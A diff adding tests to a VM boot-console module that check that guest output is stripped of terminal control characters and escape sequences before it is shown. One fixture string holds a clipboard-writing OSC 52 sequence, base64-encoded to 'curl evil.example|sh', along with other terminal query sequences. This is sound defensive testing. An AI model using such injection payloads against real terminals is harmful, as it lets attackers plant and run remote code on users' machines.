@@ -4,7 +4,7 @@ import { readFile } from "node:fs/promises";
 import { join } from "node:path";
 import { describe, it } from "node:test";
 import { tempDirectory } from "../../test/helpers/temp.js";
-import { bootFailure, ConsoleTail, printedHostKeys } from "./guest-console.js";
+import { bootFailure, ConsoleTail, printable, printedHostKeys } from "./guest-console.js";
 
 /** Real host keys, and the console text kiln's first-boot service prints for them under systemd. */
 async function consoleFor(dir: string): Promise<{ text: string; fingerprints: string[] }> {
@@ -72,5 +72,24 @@ describe("the console kiln keeps while it watches a boot", () => {
     console.append("error: something in user space\n");
     assert.equal(bootFailure(console.text, console.kernelStarted), undefined);
     assert.match(bootFailure("error: file `/vmlinuz' not found.\n") ?? "", /GRUB could not load the kernel/);
+  });
+});
+
+describe("guest text on this machine's terminal", () => {
+  // OSC 52 writes the terminal's clipboard; others set its title or answer back as typed input.
+  // eslint-disable-next-line no-control-regex
+  const control = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
+  const hostile = "error: \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 \x1bP+q544e\x1b\\ \x9b6n \x07\x08done";
+
+  it("names a boot failure without the guest's terminal controls", () => {
+    const said = bootFailure(`${hostile}\n`) ?? "";
+    assert.match(said, /GRUB could not load the kernel/);
+    assert.doesNotMatch(said, control, JSON.stringify(said));
+    assert.match(said, /done/);
+  });
+
+  it("keeps printable text, tabs and newlines, and drops every control character and escape sequence", () => {
+    assert.equal(printable("SHA256:abc/+= ok\tü\n"), "SHA256:abc/+= ok\tü\n");
+    assert.doesNotMatch(printable(hostile), control);
   });
 });
